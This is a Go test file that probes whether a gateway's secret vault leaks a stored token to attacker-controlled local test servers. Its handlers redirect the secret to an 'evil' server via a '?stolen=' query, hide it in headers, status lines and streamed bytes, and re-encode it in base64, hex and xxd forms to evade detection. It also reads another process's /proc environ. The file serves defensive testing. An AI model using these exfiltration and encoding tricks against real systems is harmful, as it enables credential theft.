//go:build linux

package attack

import (
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"palyra/internal/core/bus/bustest"
	"palyra/internal/core/must"
	"palyra/test/process"
)

// vaultWorld is a gateway whose vault has a secret for the host good, and a member bob who is
// an operator. The secret belongs only in its header to good. The value in any other place
// counts as stolen.
type vaultWorld struct {
	*gateway
	value             string
	good, evil, plain *httptest.Server

	mu            sync.Mutex
	given, stolen bytes.Buffer
}

// placed is the placeholder of the secret, mine the placeholder of the secret that belongs to
// local only.
const (
	placed = "palyra-sec-global~api"
	mine   = "palyra-sec-user~local~mine"
)

const fetches = `@id("fetches")
@reason("the servers of these tests are their own")
@waives("approval: the servers are the test's own")
permit(principal, action == Action::"tool.execute/http.fetch", resource) when { context.egress.mode == "strict" };
`

func newVaultWorld(t *testing.T) *vaultWorld {
	t.Helper()
	v := &vaultWorld{value: planted(t.Name())}
	v.good = httptest.NewTLSServer(http.HandlerFunc(v.goodHost))
	v.evil, v.plain = httptest.NewTLSServer(http.HandlerFunc(v.steal)), httptest.NewServer(http.HandlerFunc(v.steal))
	for _, s := range []*httptest.Server{v.good, v.evil, v.plain} {
		t.Cleanup(s.Close)
	}
	v.gateway = newGateway(t, unattended+fetches, "[http]", fmt.Sprintf("allowed_hosts = [%q, %q, %q]", at(v.good), at(v.evil), at(v.plain)))
	v.write(v.Config, strings.Replace(read(t, v.Config), "[process_runner]", fmt.Sprintf("[process_runner]\nallowed_egress_hosts = [%q]", at(v.good)), 1))
	roots := filepath.Join(v.Dir, "roots.pem")
	v.write(roots, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: v.good.Certificate().Raw})))
	address, stop, err := bustest.Start(shortDir(t))
	must.Do(t, err)
	t.Cleanup(stop)
	v.Env = []string{"SSL_CERT_FILE=" + roots, "OF_PALYRAD=" + v.value, "DBUS_SESSION_BUS_ADDRESS=" + address}
	v.mustStart()
	v.keep("global/api", "--host", at(v.good), "--env", "API_TOKEN")
	v.keep("user:local/mine", "--host", at(v.good))
	if r := v.palyra("members", "add", "bob", "--role", "operator", "--yes", "--out", filepath.Join(v.Dir, "bob")); r.Code != 0 {
		t.Fatal(r.Err)
	}
	return v
}

// shortDir returns a directory whose path is short enough for a socket.
func shortDir(t *testing.T) string {
	dir := must.Get(os.MkdirTemp("", "bus"))(t)
	t.Cleanup(func() { must.Check(t, os.RemoveAll(dir)) })
	return dir
}

func at(s *httptest.Server) string { return s.Listener.Addr().String() }

// keep stores the value under a name.
func (v *vaultWorld) keep(ref string, flags ...string) {
	v.T.Helper()
	cmd := v.command(append([]string{"vault", "put", ref}, flags...)...)
	cmd.Stdin = strings.NewReader(v.value)
	if text, err := cmd.CombinedOutput(); err != nil {
		v.T.Fatalf("%v: %s", err, text)
	}
}

// goodHost answers as a host that an attacker partly controls.
func (v *vaultWorld) goodHost(w http.ResponseWriter, r *http.Request) {
	got := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	v.mu.Lock()
	v.given.WriteString(got + "\n")
	v.mu.Unlock()
	r.Header.Del("Authorization")
	v.note(r)
	switch r.URL.Path {
	case "/carry":
		http.Redirect(w, r, v.evil.URL+"/", http.StatusTemporaryRedirect)
	case "/tell":
		http.Redirect(w, r, v.evil.URL+"/?stolen="+got, http.StatusTemporaryRedirect)
	case "/header":
		w.Header().Set("Etag", got)
	case "/status":
		if conn, _, err := w.(http.Hijacker).Hijack(); err == nil {
			fmt.Fprintf(conn, "HTTP/1.1 %s OK\r\n\r\n", got)
			conn.Close()
		}
	case "/pieces":
		for _, c := range []byte(got) {
			_, _ = w.Write([]byte{c})
			w.(http.Flusher).Flush()
		}
	default:
		_, _ = io.WriteString(w, asForm(strings.TrimPrefix(r.URL.Path, "/"), got))
	}
}

// asForm returns a value in another encoding.
func asForm(form, value string) string {
	base := base64.StdEncoding.EncodeToString
	switch form {
	case "base64":
		return base([]byte(value))
	case "base64-twice":
		return base([]byte(base([]byte(value))))
	case "hex":
		return hex.EncodeToString([]byte(value))
	case "base32":
		return base32.StdEncoding.EncodeToString([]byte(value))
	case "base64-separated":
		return strings.Join(chunks(base([]byte(value)), 4), ".")
	case "hex-separated":
		return strings.Join(chunks(hex.EncodeToString([]byte(value)), 2), "_")
	case "hexdump":
		return "\n" + hex.Dump([]byte(value))
	case "xxd":
		var out strings.Builder
		for i, line := range chunks(value, 16) {
			fmt.Fprintf(&out, "\n%08x: %-39s  %s", 16*i, strings.Join(chunks(hex.EncodeToString([]byte(line)), 4), " "), line)
		}
		return out.String() + "\n"
	case "percent", "escapes":
		var out strings.Builder
		for _, c := range []byte(value) {
			fmt.Fprintf(&out, map[string]string{"percent": "%%%02X", "escapes": `\u%04x`}[form], c)
		}
		return out.String()
	case "text":
		return value
	}
	return "fine"
}

// chunks splits a text into parts of a given length.
func chunks(text string, length int) []string {
	var parts []string
	for part := range slices.Chunk([]byte(text), length) {
		parts = append(parts, string(part))
	}
	return parts
}

func (v *vaultWorld) steal(_ http.ResponseWriter, r *http.Request) { v.note(r) }

// note records the complete request.
func (v *vaultWorld) note(r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	v.mu.Lock()
	defer v.mu.Unlock()
	fmt.Fprintf(&v.stolen, "%s %s %q\n%s\n", r.Method, r.URL, r.Header, body)
}

// holds reports whether a text contains the value in any form, or a key of the vault.
func (v *vaultWorld) holds(text string) bool {
	for _, form := range []string{"percent", "escapes", "base64-twice", "base32", "base64-separated", "hex-separated", "hexdump", "xxd"} {
		if strings.Contains(strings.ToLower(strings.ReplaceAll(text, `\n`, "\n")), strings.ToLower(asForm(form, v.value))) {
			return true
		}
	}
	return holdsSecret([]byte(strings.ReplaceAll(text, `\\u`, `\u`)), v.value) || strings.Contains(text, `"kek_`) || strings.Contains(text, `\"kek_`)
}

// sent appends the value to the text if it contains a placeholder, because hosts must not
// receive placeholders either. palyrad's own answers never contain placeholders.
func (v *vaultWorld) sent(told string) string {
	if strings.Contains(strings.ToLower(told), placed) {
		return told + v.value
	}
	return told
}

// taken returns the data that attackers received from the network since the last call; give
// returns the data that the host received in the secret's header.
func (v *vaultWorld) taken() string { return v.take(&v.stolen) }

func (v *vaultWorld) give() string { return v.take(&v.given) }

func (v *vaultWorld) take(from *bytes.Buffer) string {
	v.mu.Lock()
	defer v.mu.Unlock()
	defer from.Reset()
	return from.String()
}

// fetch calls http.fetch; more are other inputs.
func (v *vaultWorld) fetch(url string, more ...string) string {
	v.T.Helper()
	return output(v.palyra(append([]string{"call", "http.fetch", "url=" + url}, more...)...))
}

func output(r process.Result) string { return r.Out + r.Err }

// header is the input of one header.
func header(name, value string) string { return fmt.Sprintf(`headers={%q:%q}`, name, value) }

// as runs palyra with the credential in a subdirectory of the gateway's directory.
func (v *vaultWorld) as(who string, args ...string) string {
	v.T.Helper()
	_, address, _ := strings.Cut(read(v.T, filepath.Join(v.State, "operator", "endpoint")), "address=")
	address, _, _ = strings.Cut(address, "\n")
	cmd := v.command(args...)
	cmd.Env = append(cmd.Env, "PALYRA_CREDENTIALS="+filepath.Join(v.Dir, who), "PALYRA_ADDRESS="+address)
	cmd.Stdin = strings.NewReader("hijacked value")
	return output(process.Finish(v.T, cmd))
}

// token creates a credential with a token of local's, limited to a scope.
func (v *vaultWorld) token(scope string) {
	v.T.Helper()
	if r := v.palyra("tokens", "create", "t", "--scope", scope, "--out", filepath.Join(v.Dir, "token")); r.Code != 0 {
		v.T.Fatal(r.Err)
	}
}

// link creates a link from the workspace to the state directory.
func (v *vaultWorld) link() {
	v.T.Helper()
	if err := os.Symlink(v.State, filepath.Join(v.Workspace, "state")); err != nil && !os.IsExist(err) {
		v.T.Fatal(err)
	}
}

// neighbor starts a process of the test's user with an environment and returns its id.
func neighbor(t *testing.T, env []string) int {
	t.Helper()
	cmd := exec.Command("sleep", "infinity")
	cmd.Env = env
	pid := process.Begin(t, cmd).Cmd.Process.Pid
	// Start returns before the kernel has set the environment of the new program.
	must.Eventually(t, "the process has its environment", func() (bool, string) {
		text, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		return len(text) > 0, fmt.Sprint(err)
	})
	return pid
}

// bare runs a program in the workspace as palyrad's user, without a sandbox.
func (v *vaultWorld) bare(argv ...string) string {
	cmd := exec.CommandContext(v.T.Context(), argv[0], argv[1:]...)
	cmd.Dir = v.Workspace
	text, _ := cmd.CombinedOutput()
	return string(text)
}

// TestVault tries the attacks on the vault against the whole product.
func TestVault(t *testing.T) {
	t.Parallel()
	for _, r := range vaultAttacks() {
		t.Run(strings.ReplaceAll(r.id+" "+r.variant, " ", "_"), func(t *testing.T) {
			t.Parallel()
			v := newVaultWorld(t)
			attack := r.attack(v) + v.taken()
			control := r.control(v) + v.taken()
			record(t, r.id+" "+r.variant, v.holds(attack), v.holds(control), attack+"; control: "+control)
		})
	}
}
